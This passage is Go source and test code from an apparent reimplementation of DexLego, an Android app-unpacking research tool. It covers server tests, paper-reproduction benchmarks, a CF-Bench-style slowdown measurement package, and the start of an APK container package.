			t.Fatalf("POST status = %d, want 200", resp.StatusCode)
		}
		var js server.JobStatus
		if err := json.NewDecoder(resp.Body).Decode(&js); err != nil {
			t.Fatal(err)
		}
		return js
	}
	first := post()
	if first.State != server.StateDone || first.CacheHit {
		t.Fatalf("first reveal: state=%s cacheHit=%t, want done/miss (err=%s)",
			first.State, first.CacheHit, first.Err)
	}
	second := post()
	if second.State != server.StateDone || !second.CacheHit {
		t.Errorf("second reveal: state=%s cacheHit=%t, want done/hit", second.State, second.CacheHit)
	}
	if first.Key == "" || first.Key != second.Key {
		t.Errorf("cache keys differ: %q vs %q", first.Key, second.Key)
	}
	resp, err := http.Get(base + "/healthz")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz = %v %v, want 200", resp, err)
	}
	resp.Body.Close()
	close(stop)
	select {
	case err := <-errc:
		if err != nil {
			t.Errorf("serve returned %v after drain, want nil", err)
		}
	case <-time.After(45 * time.Second):
		t.Fatal("serve did not drain")
	}
}

// TestRunServeFleetNode boots one fleet node through run() whose only
// peer is unreachable: a reveal owned by the dead peer must be taken over
// locally (forward fails, the peer is marked down, the ring rebuilds) and
// the node's exposition must carry the dexlego_fleet_* families.
func TestRunServeFleetNode(t *testing.T) {
	lnc := make(chan net.Listener, 1)
	stop := make(chan struct{})
	serveHooks.listener = func(ln net.Listener) { lnc <- ln }
	serveHooks.stop = stop
	defer func() {
		serveHooks.listener = nil
		serveHooks.stop = nil
	}()
	errc := make(chan error, 1)
	go func() {
		errc <- run([]string{"-serve", "-addr", "127.0.0.1:0",
			"-store-dir", t.TempDir(), "-jobs", "2",
			"-fleet-peers", "http://127.0.0.1:1", "-log-level", "off"})
	}()
	var base string
	select {
	case ln := <-lnc:
		base = "http://" + ln.Addr().String()
	case err := <-errc:
		t.Fatalf("fleet serve exited before binding: %v", err)
	case <-time.After(10 * time.Second):
		t.Fatal("fleet serve never bound a listener")
	}
	resp, err := http.Post(base+"/v1/reveal?sample=SelfModifying1&wait=1", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var js server.JobStatus
	if err := json.NewDecoder(resp.Body).Decode(&js); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || js.State != server.StateDone {
		t.Fatalf("fleet reveal = %d/%s (err=%s), want 200/done", resp.StatusCode, js.State, js.Err)
	}
	mresp, err := http.Get(base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, err := io.ReadAll(mresp.Body)
	mresp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, fam := range []string{"dexlego_fleet_forwards", "dexlego_fleet_nodes_alive", "dexlego_fleet_ring_rebuilds"} {
		if !strings.Contains(string(body), fam) {
			t.Errorf("exposition missing fleet family %s", fam)
		}
	}
	close(stop)
	select {
	case err := <-errc:
		if err != nil {
			t.Errorf("fleet serve returned %v after drain, want nil", err)
		}
	case <-time.After(45 * time.Second):
		t.Fatal("fleet serve did not drain")
	}
}

// TestRunServeRejectsBadAddr checks listen failures surface as -addr errors.
func TestRunServeRejectsBadAddr(t *testing.T) {
	err := run([]string{"-serve", "-addr", "256.256.256.256:0", "-log-level", "off"})
	if err == nil || !strings.Contains(err.Error(), "-addr") {
		t.Errorf("bad addr error = %v, want -addr error", err)
	}
}

// TestRunServeWithMemBudget boots the service with -mem-budget through
// run(): a reveal completes normally, the spill directory appears beside
// the artifact store, and the exposition carries the dexlego_mem_* family.
func TestRunServeWithMemBudget(t *testing.T) {
	storeDir := t.TempDir()
	lnc := make(chan net.Listener, 1)
	stop := make(chan struct{})
	serveHooks.listener = func(ln net.Listener) { lnc <- ln }
	serveHooks.stop = stop
	defer func() {
		serveHooks.listener = nil
		serveHooks.stop = nil
	}()
	errc := make(chan error, 1)
	go func() {
		errc <- run([]string{"-serve", "-addr", "127.0.0.1:0",
			"-store-dir", storeDir, "-mem-budget", "256MiB", "-log-level", "off"})
	}()
	var base string
	select {
	case ln := <-lnc:
		base = "http://" + ln.Addr().String()
	case err := <-errc:
		t.Fatalf("serve exited before binding: %v", err)
	case <-time.After(10 * time.Second):
		t.Fatal("serve never bound a listener")
	}
	resp, err := http.Post(base+"/v1/reveal?sample=SelfModifying1&wait=1", "", nil)
	if err != nil {
		t.Fatal(err)
	}
	var js server.JobStatus
	if err := json.NewDecoder(resp.Body).Decode(&js); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || js.State != server.StateDone {
		t.Fatalf("reveal = %d state=%s err=%s, want done", resp.StatusCode, js.State, js.Err)
	}
	mresp, err := http.Get(base + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	scrape, err := io.ReadAll(mresp.Body)
	mresp.Body.Close()
	if err != nil || mresp.StatusCode != http.StatusOK {
		t.Fatalf("GET /metrics = %d %v", mresp.StatusCode, err)
	}
	for _, series := range []string{
		"dexlego_mem_budget_bytes", "dexlego_mem_inuse_bytes",
		"dexlego_mem_admit_waits_total", "dexlego_mem_spills_total",
		"dexlego_mem_spilled_bytes_total",
	} {
		if !strings.Contains(string(scrape), series) {
			t.Errorf("exposition lacks %s", series)
		}
	}
	close(stop)
	select {
	case err := <-errc:
		if err != nil {
			t.Errorf("serve returned %v after drain, want nil", err)
		}
	case <-time.After(45 * time.Second):
		t.Fatal("serve did not drain")
	}
}
