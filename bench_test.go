package dexlego_test

import (
	"io"
	"testing"

	root "dexlego"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/droidbench"
	"dexlego/internal/experiments"
	"dexlego/internal/obs"
	"dexlego/internal/reassembler"
	"dexlego/internal/taint"
	"dexlego/internal/workload"
)

// --- one benchmark per table and figure of the paper's evaluation ----------

// BenchmarkTable1Packers regenerates Table I: the five packers over the four
// AOSP applications, each revealed by DexLego and behavior-checked.
func BenchmarkTable1Packers(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunTable1()
		if err != nil {
			b.Fatal(err)
		}
		if len(res.Apps) != 4 {
			b.Fatal("unexpected app count")
		}
	}
}

// BenchmarkTable2Static regenerates Table II: the three static tools on the
// 134 DroidBench samples, original versus DexLego-revealed.
func BenchmarkTable2Static(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunDroidBench()
		if err != nil {
			b.Fatal(err)
		}
		if got := res.Original["HornDroid"].TP; got != 98 {
			b.Fatalf("HornDroid original TP = %d, want 98", got)
		}
	}
}

// BenchmarkTable3Packed regenerates Table III: DexHunter/AppSpear versus
// DexLego on the 360-packed suite.
func BenchmarkTable3Packed(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunDroidBench()
		if err != nil {
			b.Fatal(err)
		}
		if got := res.Dumped["FlowDroid"].TP; got != 84 {
			b.Fatalf("DexHunter FlowDroid TP = %d, want 84", got)
		}
	}
}

// BenchmarkTable4Dynamic regenerates Table IV: TaintDroid/TaintART versus
// DexLego+HornDroid on the five named samples.
func BenchmarkTable4Dynamic(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := experiments.RunTable4()
		if err != nil {
			b.Fatal(err)
		}
		if len(rows) != 5 {
			b.Fatal("unexpected row count")
		}
	}
}

// BenchmarkFigure5FMeasure regenerates Figure 5's F-measures.
func BenchmarkFigure5FMeasure(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunDroidBench()
		if err != nil {
			b.Fatal(err)
		}
		rows := experiments.Figure5(res)
		if len(rows) != 3 {
			b.Fatal("unexpected tool count")
		}
	}
}

// BenchmarkTable5RealWorld regenerates Table V: the nine packed market
// applications before and after DexLego.
func BenchmarkTable5RealWorld(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := experiments.RunTable5()
		if err != nil {
			b.Fatal(err)
		}
		if len(rows) != 9 {
			b.Fatal("unexpected row count")
		}
	}
}

// BenchmarkTable6Dumps regenerates Table VI: collection-file sizes for the
// five F-Droid applications.
func BenchmarkTable6Dumps(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := experiments.RunTable6(b.TempDir())
		if err != nil {
			b.Fatal(err)
		}
		if len(rows) != 5 {
			b.Fatal("unexpected row count")
		}
	}
}

// BenchmarkTable7Coverage regenerates Table VII: Sapienz versus
// Sapienz+DexLego coverage (the heaviest experiment).
func BenchmarkTable7Coverage(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunTable7()
		if err != nil {
			b.Fatal(err)
		}
		if res.Forced.Instruction.Covered <= res.Sapienz.Instruction.Covered {
			b.Fatal("force execution did not improve coverage")
		}
	}
}

// BenchmarkFigure6CFBench regenerates Figure 6: the CF-Bench comparison of
// the unmodified and instrumented runtimes.
func BenchmarkFigure6CFBench(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := experiments.RunFigure6()
		if err != nil {
			b.Fatal(err)
		}
		if j, _, _ := res.Slowdowns(); j < 1 {
			b.Fatal("collection cannot be free")
		}
	}
}

// BenchmarkTable8Launch regenerates Table VIII: launch times of the three
// popular applications (fewer repetitions than the paper's 30 to keep the
// harness snappy; cmd/perfbench runs the full count).
func BenchmarkTable8Launch(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows, err := experiments.RunTable8(5)
		if err != nil {
			b.Fatal(err)
		}
		if len(rows) != 3 {
			b.Fatal("unexpected row count")
		}
	}
}

// --- corpus batch-reveal benchmarks -----------------------------------------

// corpusJobs builds the Table V packed corpus once per benchmark.
func corpusJobs(b *testing.B) []root.BatchJob {
	b.Helper()
	apps, err := workload.MarketApps()
	if err != nil {
		b.Fatal(err)
	}
	jobs := make([]root.BatchJob, len(apps))
	for i, app := range apps {
		jobs[i] = root.BatchJob{
			Name:    app.Package,
			APK:     app.Packed,
			Options: root.Options{InstallNatives: app.Packer.InstallNatives},
		}
	}
	return jobs
}

// benchmarkCorpusReveal measures RevealBatch over the Table V packed
// corpus at a fixed worker count and reports the serial-equivalent
// speedup the pool achieved (serial wall sum / batch wall).
func benchmarkCorpusReveal(b *testing.B, workers int) {
	jobs := corpusJobs(b)
	b.ResetTimer()
	var speedup float64
	for i := 0; i < b.N; i++ {
		batch := root.RevealBatch(jobs, workers)
		if err := batch.FirstError(); err != nil {
			b.Fatal(err)
		}
		if batch.Report.TotalExecutedInsns == 0 {
			b.Fatal("no instructions collected")
		}
		speedup = batch.Report.Speedup()
	}
	b.ReportMetric(speedup, "speedup")
	b.ReportMetric(float64(workers), "workers")
}

// BenchmarkCorpusRevealSerial is the single-worker baseline for the batch
// pipeline (the pre-pipeline serial cost, within pool overhead).
func BenchmarkCorpusRevealSerial(b *testing.B) { benchmarkCorpusReveal(b, 1) }

// BenchmarkCorpusRevealParallel2 and Parallel4 record the batch speedup at
// 2 and 4 workers; on a 4+ core machine Parallel4 exceeds 1.5x.
func BenchmarkCorpusRevealParallel2(b *testing.B) { benchmarkCorpusReveal(b, 2) }
func BenchmarkCorpusRevealParallel4(b *testing.B) { benchmarkCorpusReveal(b, 4) }

// --- micro-benchmarks for the substrates ------------------------------------

func buildBenchApp(b *testing.B) *art.Runtime {
	b.Helper()
	p := dexgen.New()
	p.Class("Lb/W;", "").Static("spin", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 1)
		a.Const(1, 0)
		a.Label("l")
		a.If(0x35, 1, a.P(0), "d")
		a.BinopLit8(0xda, 0, 0, 31)
		a.BinopLit8(0xd8, 0, 0, 7)
		a.AddLit(1, 1, 1)
		a.Goto("l")
		a.Label("d")
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		b.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	rt.MaxSteps = 1 << 62
	if _, err := rt.LoadDex(f); err != nil {
		b.Fatal(err)
	}
	return rt
}

// BenchmarkInterpreter measures raw bytecode interpretation throughput.
func BenchmarkInterpreter(b *testing.B) {
	rt := buildBenchApp(b)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := rt.Call("Lb/W;", "spin", "(I)I", nil,
			[]art.Value{art.IntVal(1000)}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkInterpreterWithCollection measures the same workload under JIT
// collection — the per-instruction cost behind Figure 6's Java slowdown.
func BenchmarkInterpreterWithCollection(b *testing.B) {
	rt := buildBenchApp(b)
	col := collector.New()
	rt.AddHooks(col.Hooks())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := rt.Call("Lb/W;", "spin", "(I)I", nil,
			[]art.Value{art.IntVal(1000)}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDexRoundTrip measures DEX serialization and parsing.
func BenchmarkDexRoundTrip(b *testing.B) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	data, err := pkg.Dex()
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		f, err := dex.Read(data)
		if err != nil {
			b.Fatal(err)
		}
		if _, err := f.Write(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRevealPipeline measures the full collect-and-reassemble pipeline
// on the paper's Code 1 sample.
func BenchmarkRevealPipeline(b *testing.B) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := root.Reveal(pkg, root.Options{Natives: s.Natives()})
		if err != nil {
			b.Fatal(err)
		}
		if res.Stats.Divergences == 0 {
			b.Fatal("no self-modification captured")
		}
	}
}

// BenchmarkRevealPipelineTraced measures the same pipeline with full JSONL
// tracing enabled — the cost ceiling of -trace-out. Compare against
// BenchmarkRevealPipeline for the tracing overhead; the disabled-path cost
// is pinned separately in internal/obs.
func BenchmarkRevealPipelineTraced(b *testing.B) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tr := obs.New(obs.NewJSONLSink(io.Discard))
		res, err := root.Reveal(pkg, root.Options{
			Natives: s.Natives(), Tracer: tr, TraceLabel: s.Name})
		if err != nil {
			b.Fatal(err)
		}
		if res.Metrics.Obs.EventCount(obs.EventTreeFork) == 0 {
			b.Fatal("no self-modification captured")
		}
	}
}

// BenchmarkReassembleOnly isolates the offline reassembling phase.
func BenchmarkReassembleOnly(b *testing.B) {
	s := droidbench.ByName("SelfModifying1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	s.InstallNatives(rt)
	col := collector.New()
	rt.AddHooks(col.Hooks())
	if err := rt.LoadAPK(pkg); err != nil {
		b.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, err := reassembler.Reassemble(col.Result()); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkStaticAnalysis measures one HornDroid pass over a sample.
func BenchmarkStaticAnalysis(b *testing.B) {
	s := droidbench.ByName("ImplicitFlow1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	data, err := pkg.Dex()
	if err != nil {
		b.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := taint.Analyze([]*dex.File{f}, taint.HornDroid())
		if err != nil {
			b.Fatal(err)
		}
		if !res.Leaky() {
			b.Fatal("flow lost")
		}
	}
}

// BenchmarkAblationTreeDedup quantifies Algorithm 1's deduplication: the
// ratio between raw executed-instruction events and the unique instructions
// the collection tree retains (the paper's code-scale argument against
// naive trace listing).
func BenchmarkAblationTreeDedup(b *testing.B) {
	p := dexgen.New()
	p.Class("Lab/T;", "").Static("spin", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 0)
		a.Const(1, 0)
		a.Label("loop")
		a.If(0x35, 1, a.P(0), "done")
		a.Binop(0x90, 0, 0, 1)
		a.BinopLit8(0xd8, 1, 1, 1)
		a.Goto("loop")
		a.Label("done")
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	var events, unique int
	for i := 0; i < b.N; i++ {
		rt := art.NewRuntime(art.DefaultPhone())
		col := collector.New()
		events = 0
		rt.AddHooks(&art.Hooks{Instruction: func(m *art.Method, pc int, insns []uint16, in *bytecode.Inst) {
			events++ // the naive trace length
		}})
		rt.AddHooks(col.Hooks())
		if _, err := rt.LoadDex(f); err != nil {
			b.Fatal(err)
		}
		if _, err := rt.Call("Lab/T;", "spin", "(I)I", nil,
			[]art.Value{art.IntVal(500)}); err != nil {
			b.Fatal(err)
		}
		unique = col.Result().ExecutedInstructionCount()
	}
	b.ReportMetric(float64(events), "trace-insns")
	b.ReportMetric(float64(unique), "tree-insns")
	b.ReportMetric(float64(events)/float64(unique), "dedup-ratio")
}

// BenchmarkAblationUnionMerge quantifies the reassembler's compatible-tree
// union: without it, every distinct execution path would become a method
// variant.
func BenchmarkAblationUnionMerge(b *testing.B) {
	s := droidbench.ByName("SwitchFlow1")
	pkg, err := s.Build()
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := root.Reveal(pkg, root.Options{Fuzz: true, FuzzSeed: int64(i)})
		if err != nil {
			b.Fatal(err)
		}
		if res.Stats.Variants != 0 {
			b.Fatalf("union merge failed: %d variants", res.Stats.Variants)
		}
	}
}
