// Package cfbench implements the CF-Bench stand-in of the paper's Fig. 6
// and the ActivityManager launch timing of Table VIII. The Java score
// measures bytecode interpretation throughput, the native score measures
// JNI-side work, and the overall score averages the two after normalizing
// their units — the same shape CF-Bench reports. Running the identical
// workloads with and without DexLego's collection hooks yields the
// slowdown ratios.
package cfbench

import (
	"fmt"
	"math"
	"sort"
	"time"

	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/collector"
	"dexlego/internal/dexgen"
)

// Scores are benchmark scores in operations per millisecond (higher is
// better); Overall is the mean of Java and the unit-normalized Native.
type Scores struct {
	Java    float64
	Native  float64
	Overall float64
}

// Comparison pairs the unmodified-runtime scores with the instrumented
// ones.
type Comparison struct {
	Unmodified Scores
	DexLego    Scores
}

// Slowdowns returns the Java, native and overall slowdown factors.
func (c Comparison) Slowdowns() (java, native, overall float64) {
	return c.Unmodified.Java / c.DexLego.Java,
		c.Unmodified.Native / c.DexLego.Native,
		c.Unmodified.Overall / c.DexLego.Overall
}

// benchAPK builds the benchmark application: a bytecode spin loop and a
// native spin entry.
func benchAPK() (*apk.APK, error) {
	p := dexgen.New()
	cls := p.Class("Lbench/Work;", "")
	// spin(n): n iterations of mixed 32-bit arithmetic.
	cls.Static("spin", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 0x1234)
		a.Const(1, 0)
		a.Label("loop")
		a.If(0x35 /* if-ge */, 1, a.P(0), "done")
		a.BinopLit8(0x0da /* mul-int/lit8 */, 0, 0, 31)
		a.BinopLit8(0x0d8 /* add-int/lit8 */, 0, 0, 7)
		a.BinopLit8(0x0df /* xor-int/lit8 */, 0, 0, 55)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("done")
		a.Return(0)
	})
	cls.Native("nativeSpin", "I", "I")
	return p.BuildAPK("bench.cf", "1.0", "")
}

func installBenchNatives(rt *art.Runtime) {
	rt.RegisterNative("Lbench/Work;->nativeSpin(I)I",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			n := int(args[0].Int)
			x := uint32(0x9e3779b9)
			for i := 0; i < n; i++ {
				x = x*1664525 + 1013904223
				x ^= x >> 13
			}
			return art.IntVal(int64(int32(x))), nil
		})
}

// Config sizes the benchmark workloads.
type Config struct {
	JavaIters   int // bytecode loop iterations per round
	NativeIters int // native loop iterations per round
	Rounds      int
}

// DefaultConfig returns workload sizes that run in well under a second per
// mode on commodity hardware.
func DefaultConfig() Config {
	return Config{JavaIters: 60_000, NativeIters: 4_000_000, Rounds: 3}
}

// Run executes the CF-Bench pair: once on the unmodified runtime and once
// with DexLego's JIT collection attached.
func Run(cfg Config) (Comparison, error) {
	pkg, err := benchAPK()
	if err != nil {
		return Comparison{}, err
	}
	measure := func(withCollector bool) (Scores, error) {
		rt := art.NewRuntime(art.DefaultPhone())
		rt.MaxSteps = 1 << 62
		installBenchNatives(rt)
		if withCollector {
			col := collector.New()
			rt.AddHooks(col.Hooks())
		}
		if err := rt.LoadAPK(pkg); err != nil {
			return Scores{}, err
		}
		var javaBest, nativeBest float64
		for r := 0; r < cfg.Rounds; r++ {
			start := time.Now()
			if _, err := rt.Call("Lbench/Work;", "spin", "(I)I", nil,
				[]art.Value{art.IntVal(int64(cfg.JavaIters))}); err != nil {
				return Scores{}, err
			}
			javaOps := float64(cfg.JavaIters) / (float64(time.Since(start).Microseconds()) / 1000)
			if javaOps > javaBest {
				javaBest = javaOps
			}
			start = time.Now()
			if _, err := rt.Call("Lbench/Work;", "nativeSpin", "(I)I", nil,
				[]art.Value{art.IntVal(int64(cfg.NativeIters))}); err != nil {
				return Scores{}, err
			}
			nativeOps := float64(cfg.NativeIters) / (float64(time.Since(start).Microseconds()) / 1000)
			if nativeOps > nativeBest {
				nativeBest = nativeOps
			}
		}
		return Scores{Java: javaBest, Native: nativeBest}, nil
	}
	base, err := measure(false)
	if err != nil {
		return Comparison{}, err
	}
	lego, err := measure(true)
	if err != nil {
		return Comparison{}, err
	}
	// Normalize native units so the unmodified runtime's Java and native
	// scores coincide, then Overall is their mean (CF-Bench style).
	norm := base.Java / base.Native
	base.Native *= norm
	lego.Native *= norm
	base.Overall = (base.Java + base.Native) / 2
	lego.Overall = (lego.Java + lego.Native) / 2
	return Comparison{Unmodified: base, DexLego: lego}, nil
}

// LaunchSample is a mean/std launch-time measurement. Mean is an
// upper-trimmed mean: the slowest quarter of runs is dropped before
// averaging. Launch times have a hard floor (the interpreter's work) but no
// ceiling — a run that loses the CPU to the scheduler or a GC cycle only
// ever reads high — so high outliers are host artifacts, not interpreter
// cost, and a plain mean lets a single preempted run skew the
// instrumented/original ratio by several x. Std still covers all runs, as a
// dispersion report.
type LaunchSample struct {
	Mean time.Duration
	Std  time.Duration
}

// MeasureLaunch times LaunchActivity over the given number of runs, with
// and without DexLego collection, on a fresh runtime per run (cold start).
func MeasureLaunch(pkg *apk.APK, runs int, withCollector bool) (LaunchSample, error) {
	if runs < 1 {
		return LaunchSample{}, fmt.Errorf("cfbench: runs must be positive")
	}
	durations := make([]float64, 0, runs)
	// One untimed warmup launch: the framework template and the shared
	// predecoded-program cache are process-global, so whichever
	// configuration runs first would otherwise absorb their build cost and
	// skew the instrumented/original ratio (it can even drop below 1x).
	for i := -1; i < runs; i++ {
		rt := art.NewRuntime(art.DefaultPhone())
		rt.MaxSteps = 1 << 62
		if withCollector {
			col := collector.New()
			rt.AddHooks(col.Hooks())
		}
		start := time.Now()
		if err := rt.LoadAPK(pkg); err != nil {
			return LaunchSample{}, err
		}
		if _, err := rt.LaunchActivity(); err != nil {
			return LaunchSample{}, err
		}
		if i >= 0 {
			durations = append(durations, float64(time.Since(start).Nanoseconds()))
		}
	}
	var sum float64
	for _, d := range durations {
		sum += d
	}
	mean := sum / float64(len(durations))
	var varsum float64
	for _, d := range durations {
		varsum += (d - mean) * (d - mean)
	}
	std := math.Sqrt(varsum / float64(len(durations)))
	sort.Float64s(durations)
	kept := durations[:len(durations)-len(durations)/4]
	sum = 0
	for _, d := range kept {
		sum += d
	}
	return LaunchSample{
		Mean: time.Duration(sum / float64(len(kept))),
		Std:  time.Duration(std),
	}, nil
}
