package cfbench_test

import (
	"testing"

	"dexlego/internal/cfbench"
	"dexlego/internal/workload"
)

func TestRunSmallConfig(t *testing.T) {
	cmp, err := cfbench.Run(cfbench.Config{
		JavaIters: 2000, NativeIters: 50_000, Rounds: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	if cmp.Unmodified.Java <= 0 || cmp.Unmodified.Native <= 0 {
		t.Fatalf("non-positive baseline scores: %+v", cmp.Unmodified)
	}
	java, native, overall := cmp.Slowdowns()
	if java < 1 {
		t.Errorf("collection sped up interpretation? java slowdown = %.2f", java)
	}
	// After unit normalization, baseline overall equals both components.
	if cmp.Unmodified.Overall <= 0 {
		t.Errorf("overall = %f", cmp.Unmodified.Overall)
	}
	_ = native
	_ = overall
}

func TestMeasureLaunch(t *testing.T) {
	apps, err := workload.PopularApps()
	if err != nil {
		t.Fatal(err)
	}
	s, err := cfbench.MeasureLaunch(apps[2].APK, 3, false) // WhatsApp: smallest
	if err != nil {
		t.Fatal(err)
	}
	if s.Mean <= 0 {
		t.Errorf("mean = %v", s.Mean)
	}
	withCol, err := cfbench.MeasureLaunch(apps[2].APK, 3, true)
	if err != nil {
		t.Fatal(err)
	}
	if withCol.Mean <= s.Mean {
		t.Errorf("collection launch %v not slower than baseline %v", withCol.Mean, s.Mean)
	}
	if _, err := cfbench.MeasureLaunch(apps[2].APK, 0, false); err == nil {
		t.Error("zero runs must fail")
	}
}
