// Package apk implements the Android application package container used by
// DexLego: a zip archive holding an AndroidManifest.xml stand-in, the
// classes.dex payload, assets and native libraries. Packers hide encrypted
// payloads in assets/ and lib/, and the reassembler swaps classes.dex for
// the revealed DEX, mirroring the paper's use of the Android Asset
// Packaging Tool.
package apk

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"sync"

	"dexlego/internal/dex"
)

// DexEntry is the archive path of the primary DEX file.
const DexEntry = "classes.dex"

const manifestEntry = "AndroidManifest.xml"

// ErrNoDex is returned when an APK has no classes.dex entry.
var ErrNoDex = errors.New("apk: missing classes.dex")

// Manifest is the subset of AndroidManifest.xml the runtime consumes.
type Manifest struct {
	XMLName      xml.Name `xml:"manifest"`
	Package      string   `xml:"package,attr"`
	Version      string   `xml:"versionName,attr"`
	MainActivity string   `xml:"application>activity"` // class descriptor
	MinSDK       int      `xml:"uses-sdk,attr,omitempty"`
}

// APK is an Android application package.
type APK struct {
	Manifest Manifest
	files    map[string][]byte

	// parsed memoizes DexFile: the reveal pipeline loads the same package
	// into a fresh runtime for every collection pass and forced run, and
	// re-parsing an immutable payload each time dominated LoadAPK. Guarded
	// by mu; invalidated whenever the classes.dex entry is rewritten.
	mu     sync.Mutex
	parsed *dex.File
}

// New returns an empty APK with the given manifest identity.
func New(pkg, version, mainActivity string) *APK {
	return &APK{
		Manifest: Manifest{
			Package:      pkg,
			Version:      version,
			MainActivity: mainActivity,
			MinSDK:       23, // Android 6.0, as in the paper's prototype
		},
		files: make(map[string][]byte),
	}
}

// SetDex replaces the primary classes.dex payload.
func (a *APK) SetDex(data []byte) {
	a.put(DexEntry, data)
}

// Dex returns the primary classes.dex payload.
func (a *APK) Dex() ([]byte, error) {
	d, ok := a.files[DexEntry]
	if !ok {
		return nil, ErrNoDex
	}
	return append([]byte(nil), d...), nil
}

// DexFile returns the parsed classes.dex, cached until the entry is
// rewritten. The returned File is shared between all callers and must be
// treated as immutable — runtime linking already copies every code body it
// may write to. The signature cache is built before the File is published,
// so concurrent consumers never write to it.
func (a *APK) DexFile() (*dex.File, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.parsed != nil {
		return a.parsed, nil
	}
	d, ok := a.files[DexEntry]
	if !ok {
		return nil, ErrNoDex
	}
	// Parse a private copy: the archive entry can be rewritten (SetDex)
	// while parsed Files from before the write are still in use, so the
	// zero-copy parse must not alias a.files.
	f, err := dex.ReadShared(append([]byte(nil), d...))
	if err != nil {
		return nil, err
	}
	f.BuildSignatureCache()
	a.parsed = f
	return f, nil
}

// AddAsset stores data under assets/name.
func (a *APK) AddAsset(name string, data []byte) {
	a.put("assets/"+name, data)
}

// Asset returns the contents of assets/name.
func (a *APK) Asset(name string) ([]byte, bool) {
	d, ok := a.files["assets/"+name]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), d...), true
}

// AddNativeLib stores data under lib/arm64-v8a/name, standing in for a
// packer's libshell.so.
func (a *APK) AddNativeLib(name string, data []byte) {
	a.put("lib/arm64-v8a/"+name, data)
}

// NativeLib returns the contents of lib/arm64-v8a/name.
func (a *APK) NativeLib(name string) ([]byte, bool) {
	d, ok := a.files["lib/arm64-v8a/"+name]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), d...), true
}

// Put stores an arbitrary entry.
func (a *APK) Put(path string, data []byte) {
	a.put(path, data)
}

// File returns an arbitrary entry's contents.
func (a *APK) File(path string) ([]byte, bool) {
	d, ok := a.files[path]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), d...), true
}

// Entries returns all archive paths in sorted order (manifest included).
func (a *APK) Entries() []string {
	out := make([]string, 0, len(a.files)+1)
	out = append(out, manifestEntry)
	for name := range a.files {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Assets lists the names of all assets.
func (a *APK) Assets() []string {
	var out []string
	for name := range a.files {
		if rest, ok := strings.CutPrefix(name, "assets/"); ok {
			out = append(out, rest)
		}
	}
	sort.Strings(out)
	return out
}

func (a *APK) put(path string, data []byte) {
	if a.files == nil {
		a.files = make(map[string][]byte)
	}
	a.files[path] = append([]byte(nil), data...)
	if path == DexEntry {
		a.mu.Lock()
		a.parsed = nil
		a.mu.Unlock()
	}
}

// Clone returns a deep copy of the APK.
func (a *APK) Clone() *APK {
	out := &APK{Manifest: a.Manifest, files: make(map[string][]byte, len(a.files))}
